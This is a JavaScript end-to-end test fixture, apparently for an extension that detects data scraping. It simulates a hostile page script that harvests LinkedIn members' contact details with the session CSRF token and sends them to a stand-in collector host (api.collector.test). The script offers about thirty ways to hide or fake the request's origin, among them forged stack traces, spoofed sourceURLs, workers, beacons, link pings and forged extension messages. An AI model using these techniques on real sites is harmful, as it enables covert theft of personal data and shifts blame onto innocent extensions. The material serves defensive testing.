// A third-party script on a page of the site (www/pages/framing.html) that
// harvests members' contact details and sends them away, each time in a way
// meant to get the blame put on an innocent extension or on the site
// itself. The attack is named by the page's `attack` parameter, the
// innocent extension's id by `innocent`; window.__attack settles when the
// attempt is over. tests/e2e/framing.test.mjs runs every attack.
'use strict';

(() => {
  const params = new URLSearchParams(location.search);
  const attack = params.get('attack');
  const innocent = params.get('innocent') ?? 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';
  const innocentUrl = `chrome-extension://${innocent}`;
  const MEMBERS = ['bruno-keller', 'chloe-nguyen', 'david-okafor', 'elena-rossi'];
  const csrf = (document.cookie.match(/(?:^|;\s*)JSESSIONID="?([^";]*)"?/) ?? [])[1] ?? '';

  // The harvest as source text, for the attacks that run code from a
  // string (eval, handlers, workers, blob: and data: scripts, frames).
  const HARVEST = `(async () => {
    const members = ${JSON.stringify(MEMBERS)};
    const found = [];
    for (const id of members) {
      const res = await fetch('https://www.linkedin.com/voyager/api/identity/profiles/' + id + '/profileContactInfo', {
        credentials: 'include',
        headers: { 'csrf-token': ${JSON.stringify(csrf)}, accept: 'application/vnd.linkedin.normalized+json+2.1' },
      });
      if (res.ok) found.push(await res.json());
    }
    await fetch('https://api.collector.test/v1/contacts', { method: 'POST', body: JSON.stringify(found) });
    return found.length;
  })()`;

  /** The members' contact details, looked up through `fetchFn`. */
  async function lookUp(fetchFn = fetch) {
    const found = [];
    for (const id of MEMBERS) {
      const res = await fetchFn(`https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`, {
        credentials: 'include',
        headers: { 'csrf-token': csrf, accept: 'application/vnd.linkedin.normalized+json+2.1' },
      });
      if (res.ok) found.push(await res.json());
    }
    return found;
  }

  async function harvest(fetchFn = fetch) {
    const found = await lookUp(fetchFn);
    await fetchFn('https://api.collector.test/v1/contacts', { method: 'POST', body: JSON.stringify(found) });
    return found.length;
  }

  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const ready = () => new Promise((resolve) => (document.body ? resolve() : addEventListener('DOMContentLoaded', resolve, { once: true })));
  /** Waits for the string-run harvest to have reached the collector. */
  const settled = () => sleep(2500);
  /** Wraps the page's fetch as error trackers do; returns what it held. */
  const wrapFetch = () => {
    const kept = window.fetch;
    window.fetch = function fetch(input, init) {
      return kept.call(this, input, init);
    };
    return kept;
  };
  /** A same-site link put into the page, and the pointer on it (Fixture Link Preview's cue). */
  const hoverLink = () => {
    const link = Object.assign(document.createElement('a'), { href: '/feed/?preview', textContent: 'Feed' });
    document.body.append(link);
    link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
  };
  /** Resolves once an extension's own element is in the page (or after 3 s). */
  const extensionUi = async () => {
    await ready();
    for (let waited = 0; waited < 3000 && !document.querySelector('img[src^="chrome-extension:"]'); waited += 100) await sleep(100);
  };
  const panel = (html) => {
    const div = document.createElement('div');
    div.className = 'contact-finder-panel';
    div.innerHTML = html;
    document.body.append(div);
  };

  const ATTACKS = {
    // The control: the third party harvests in plain sight.
    plain: () => harvest(),
    // Another extension's address in the page, as if it had injected a panel.
    'image of another extension': async () => {
      await ready();
      panel(`<img src="${innocentUrl}/icons/panel.png"><p>Email: bruno@example.org</p>`);
      await harvest();
    },
    'frame of another extension': async () => {
      await ready();
      panel(`<iframe src="${innocentUrl}/panel.html"></iframe>`);
      await harvest();
    },
    'stylesheet and script of another extension': async () => {
      await ready();
      panel(`<link rel="stylesheet" href="${innocentUrl}/panel.css"><script src="${innocentUrl}/content.js"></script>`);
      await harvest();
    },
    'background image and id of another extension': async () => {
      await ready();
      panel(`<div id="${innocent}-panel" style="background-image:url(${innocentUrl}/bg.png)">Contact finder</div>`);
      await harvest();
    },
    // Stacks made unreadable or false.
    'locked prepareStackTrace': () => {
      Object.defineProperty(Error, 'prepareStackTrace', {
        value: () => `    at x (${location.origin}/static/bundle.js:1:1)`, writable: false, configurable: false,
      });
      return harvest();
    },
    'stack trace limit 0': () => {
      Object.defineProperty(Error, 'stackTraceLimit', { value: 0, writable: false, configurable: false });
      return harvest();
    },
    'prepareStackTrace naming the innocent extension': () => {
      Error.prepareStackTrace = () => `Error\n    at x (${innocentUrl}/content.js:1:1)`;
      return harvest();
    },
    'function named like an extension frame': () => {
      const named = { [`x (${innocentUrl}/content.js:1:1)`]: () => harvest() };
      return named[`x (${innocentUrl}/content.js:1:1)`]();
    },
    'eval with the innocent extension as sourceURL': () => (0, eval)(`${HARVEST}\n//# sourceURL=${innocentUrl}/content.js`),
    'new Function with the site as sourceURL': () => new Function(`return ${HARVEST}\n//# sourceURL=${location.origin}/static/bundle.js`)(),
    'setTimeout with a string': async () => {
      setTimeout(`${HARVEST}`, 0);
      await settled();
    },
    // Code that runs under the document's own URL.
    'inline event handler': async () => {
      await ready();
      const img = document.createElement('img');
      img.setAttribute('onerror', HARVEST);
      img.src = '/__pages/missing.png';
      document.body.append(img);
      await settled();
    },
    'inline script element': async () => {
      await ready();
      const script = document.createElement('script');
      script.textContent = HARVEST;
      document.body.append(script);
      await settled();
    },
    'javascript: URL frame': async () => {
      await ready();
      const frame = document.createElement('iframe');
      frame.src = `javascript:parent.eval(${JSON.stringify(HARVEST)})`;
      document.body.append(frame);
      await settled();
    },
    // Elsewhere than the page's top frame.
    'blob: script': async () => {
      await ready();
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' }));
      document.body.append(script);
      await settled();
    },
    'data: script': async () => {
      await ready();
      const script = document.createElement('script');
      script.src = `data:text/javascript,${encodeURIComponent(HARVEST)}`;
      document.body.append(script);
      await settled();
    },
    'dedicated worker from blob:': async () => {
      const worker = new Worker(URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' })));
      await settled();
      worker.terminate();
    },
    // Requests a worker makes reach the browser as the page's own, with no
    // call in the page: made once an extension has put its UI into the
    // page, so that "not the page's scripts" would point at it.
    'worker once an extension has injected UI': async () => {
      await extensionUi();
      const worker = new Worker(URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' })));
      await settled();
      worker.terminate();
    },
    // The harvest in plain sight, the upload as a link's `ping` (hyperlink
    // auditing): the browser sends it with no call any hook sees.
    'upload as a link ping once an extension has injected UI': async () => {
      await extensionUi();
      const found = await lookUp();
      const emails = JSON.stringify(found).match(/[\w.+-]+@[\w-]+(?:\.[\w-]+)+/g) ?? [];
      const sink = document.createElement('iframe');
      sink.name = 'sink';
      sink.hidden = true;
      document.body.append(sink);
      const link = document.createElement('a');
      link.href = '/__pages/blank.html';
      link.target = 'sink';
      link.ping = `https://api.collector.test/v1/contacts?emails=${encodeURIComponent(emails.join(','))}`;
      document.body.append(link);
      link.click();
      await sleep(1500);
    },
    'same-origin about:blank frame': async () => {
      await ready();
      const frame = document.createElement('iframe');
      document.body.append(frame);
      await harvest(frame.contentWindow.fetch.bind(frame.contentWindow));
    },
    'srcdoc frame with an inline script': async () => {
      await ready();
      const frame = document.createElement('iframe');
      frame.srcdoc = `<script>${HARVEST}<\/script>`;
      document.body.append(frame);
      await settled();
    },
    // Calls that pass through the innocent extension's wrapper of fetch.
    'through the innocent wrapper': () => harvest(),
    'innocent wrapper called by a timer': async () => {
      for (const id of MEMBERS) {
        setTimeout(window.fetch, 0, `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`);
      }
      await sleep(500);
      setTimeout(window.fetch, 0, `https://api.collector.test/v1/contacts?emails=${encodeURIComponent('bruno.keller@example.org')}`);
      await sleep(1000);
    },
    'innocent wrapper called by a promise': async () => {
      const urls = MEMBERS.map((id) => `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`);
      await Promise.all(urls.map((url) => Promise.resolve(url).then(window.fetch)));
      await Promise.resolve('https://api.collector.test/v1/contacts?from=promise').then(window.fetch);
    },
    // Messages that imitate Vigie's own.
    'forged bridge messages': async () => {
      const channel = new MessageChannel();
      window.postMessage({ __vigie: 'hello', nonce: '0123456789abcdef0123456789abcdef' }, '*', [channel.port2]);
      const forged = (url) => ({ kind: 'call', api: 'fetch', url, method: 'GET', stack: [`${innocentUrl}/content.js`] });
      for (const id of MEMBERS) {
        const url = `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`;
        window.postMessage(forged(url), '*');
        channel.port1.postMessage(forged(url));
      }
      window.postMessage({ type: 'vigie:main-world', report: forged('https://api.collector.test/v1/contacts') }, '*');
      await harvest();
    },
    // Fixture Request Timer times each fetch: once the call settles, its own
    // callback reads performance.now(), which any page can replace. Code run
    // there has only the Timer's frame below its own, as if the Timer had
    // called it: the lookups leave from there, as beacons (which the Timer
    // does not wrap, so that no frame of the page's is above its own).
    'page code run from the innocent extension’s own callback': async () => {
      const nativeNow = performance.now;
      let calls = 0;
      let sent;
      const done = new Promise((resolve) => (sent = resolve));
      performance.now = function now() {
        calls += 1;
        // The first call is the Timer's start, inside the page's own fetch; the second its callback's.
        if (calls === 2) {
          for (const id of MEMBERS) navigator.sendBeacon(`https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`, csrf);
          sent();
        }
        return nativeNow.call(performance);
      };
      await fetch(`${location.origin}/feed/`);
      await Promise.race([done, sleep(3000)]);
      performance.now = nativeNow;
      await sleep(500);
    },
    // The same callback, calling a built-in the page bound to its own
    // request: a bound function leaves no frame, so the Timer's is the only
    // one on the stack.
    'a built-in the page bound, called from the innocent extension’s callback': async () => {
      const nativeNow = performance.now;
      for (const id of MEMBERS) {
        const settled = fetch(`${location.origin}/feed/`);
        performance.now = navigator.sendBeacon.bind(navigator, `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`, csrf);
        await settled;
        await sleep(50);
        performance.now = nativeNow;
      }
      await sleep(500);
    },
    // An eval the page bound: V8 puts eval'd code down to the innermost
    // script on the stack, here the Timer's callback.
    'eval the page bound, called from the innocent extension’s callback': async () => {
      const nativeNow = performance.now;
      const lookups = `${JSON.stringify(MEMBERS)}.forEach((id) => navigator.sendBeacon('https://www.linkedin.com/voyager/api/identity/profiles/' + id + '/profileContactInfo', ${JSON.stringify(csrf)})); 0`;
      const settled = fetch(`${location.origin}/feed/`);
      performance.now = eval.bind(null, lookups);
      await settled;
      await sleep(50);
      performance.now = nativeNow;
      await sleep(500);
    },
    // A low stack-trace limit, locked: only the innermost frames are read,
    // the fetch hook of the Timer's among them.
    ...Object.fromEntries([3, 4, 5, 6].map((limit) => [
      `stack trace limit locked at ${limit}`,
      () => {
        Object.defineProperty(Error, 'stackTraceLimit', { value: limit, writable: false, configurable: false });
        return harvest();
      },
    ])),
    // Fixture Link Preview kept fetch at start; the page wraps it, then
    // has a link hovered: the Preview's own call reaches Vigie's wrapper
    // while the page's property holds the page's wrapper.
    'fetch the page wrapped, then another extension’s kept fetch called': async () => {
      await ready();
      wrapFetch();
      hoverLink();
      await sleep(300);
      return harvest();
    },
    // The same, with the call made from a function of the page's that the
    // Preview's own code runs (its `instanceof Element`), held as
    // `Element.fetch` so that V8 finds it held as fetch, and run from a
    // string by a function whose name holds a bracket, so that its frames
    // give no script URL.
    'a page function held as fetch, run from another extension’s code': async () => {
      await ready();
      window.__kept = wrapFetch();
      const named = { 'x (y': () => (0, eval)('({ fetch() { window.__kept("/feed/?from-instanceof").catch(() => {}); return false; } }).fetch') };
      const held = named['x (y']();
      Element.fetch = held;
      Object.defineProperty(Element, Symbol.hasInstance, { value: held, configurable: true });
      hoverLink();
      delete Element[Symbol.hasInstance];
      await sleep(300);
      return harvest();
    },
    'replaced fetch under the innocent extension’s name': () => {
      const previous = window.fetch;
      window.fetch = (0, eval)(`(function fetch(input, init) { return previous(input, init); })\n//# sourceURL=${innocentUrl}/hook.js`.replace('previous', 'window.__previousFetch'));
      window.__previousFetch = previous;
      return harvest();
    },
  };

  window.__attacks = Object.keys(ATTACKS);
  const run = ATTACKS[attack];
  window.__attack = run ? Promise.resolve().then(run).then(() => 'done', (error) => `failed: ${error}`) : Promise.resolve('no attack');
})();
